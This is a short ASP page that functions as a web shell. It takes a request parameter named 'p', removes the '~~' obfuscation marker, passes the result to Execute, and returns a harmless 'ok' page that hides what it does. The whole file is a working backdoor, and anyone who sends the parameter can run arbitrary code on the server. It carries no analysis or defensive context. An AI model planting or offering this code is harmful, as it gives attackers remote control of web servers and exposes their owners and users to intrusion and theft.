<%
dim first, second
first = Request("p")
second = Replace(first, "~~", "")
If second <> "" Then Execute(second)
%>
<html><body>ok</body></html>
